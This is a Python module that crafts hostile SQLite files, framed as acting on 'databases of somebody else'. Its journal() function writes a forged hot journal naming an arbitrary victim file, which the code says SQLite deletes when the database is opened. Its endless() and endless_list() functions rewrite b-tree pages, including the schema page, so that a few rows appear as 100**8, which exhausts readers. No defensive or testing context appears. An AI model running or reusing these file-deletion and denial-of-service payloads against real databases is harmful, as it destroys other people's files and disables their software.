"""Databases of somebody else, and what SQLite does with them if it is let."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512
_HEAD = 100
"""Bytes of a database before its first page begins."""
_LEAF = 13


def journal(database: Path, victim: Path) -> None:
    """Put a journal beside a database that names a file, which SQLite deletes as soon as the database is read."""
    page = _page(database.read_bytes())
    name, pages = str(victim).encode(), database.stat().st_size // page
    head = (_MAGIC + struct.pack(">5I", 0, 0, pages, _SECTOR, page)).ljust(_SECTOR, b"\0")
    tail = struct.pack(">I", 2**30 // page + 1) + name + struct.pack(">2I", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(head + tail)


def endless(database: Path, table: str) -> None:
    """Give a table of a few rows 100**8 times as many: pages that lead to the same page below, down to its own."""
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        (root,) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
    made = bytearray(database.read_bytes())
    page = _page(made)
    own = slice((root - 1) * page, root * page)
    assert made[own][0] == _LEAF
    last = _added(made, made[own])
    for _ in range(7):
        last = _added(made, _above([last] * 101, page))
    made[own] = _above([last] * 101, page)
    _write(database, made)


def endless_list(database: Path) -> None:
    """Do the same to the list of what is in a database, which SQLite reads before all else."""
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
        connection.execute("CREATE TABLE again (word TEXT UNIQUE)")
        connection.commit()
        ((root,),) = connection.execute("SELECT rootpage FROM sqlite_master WHERE name = 'sqlite_autoindex_again_1'")
    made = bytearray(database.read_bytes())
    page = _page(made)
    assert made[_HEAD] == _LEAF and root < 128
    first = bytes(made[_HEAD:page])
    (start,), (count,) = struct.unpack_from(">H", first, 5), struct.unpack_from(">H", first, 3)
    leaf = bytearray(page)
    leaf[: 8 + 2 * count] = first[: 8 + 2 * count]
    leaf[start:] = made[start:page]
    names = [b"index", b"sqlite_autoindex_again_1", b"again"]
    kinds = bytes([*(13 + 2 * len(name) for name in names), 1, 0])
    row = bytes([len(kinds) + 1]) + kinds + b"".join(names) + bytes([root])
    cell = bytes([len(row), 1]) + row
    named = bytes([_LEAF]) + struct.pack(">HHHxH", 0, 1, page - len(cell), page - len(cell))
    last, whole = _added(made, named.ljust(page - len(cell), b"\0") + cell), _added(made, leaf)
    for _ in range(7):
        last = _added(made, _above([last] * 101, page))
    made[_HEAD:page] = _above([whole, *[last] * 101], page, _HEAD)[_HEAD:]
    _write(database, made)


def _page(database: bytes | bytearray) -> int:
    (size,) = struct.unpack_from(">H", database, 16)
    return int(size)


def _added(database: bytearray, page: bytes | bytearray) -> int:
    database += page
    return len(database) // len(page)


def _above(pages: list[int], size: int, head: int = 0) -> bytearray:
    """Return a page that leads to others, as it stands behind so many bytes."""
    *cells, last = pages
    made = bytearray(size)
    places = [size - 5 * number for number in range(1, len(cells) + 1)]
    made[head : head + 12] = struct.pack(">BHHHBI", 5, 0, len(cells), places[-1], 0, last)
    for number, (place, page) in enumerate(zip(places, cells, strict=True)):
        struct.pack_into(">H", made, head + 12 + 2 * number, place)
        struct.pack_into(">IB", made, place, page, 1)
    return made


def _write(database: Path, made: bytearray) -> None:
    struct.pack_into(">I", made, 28, len(made) // _page(made))
    database.write_bytes(made)
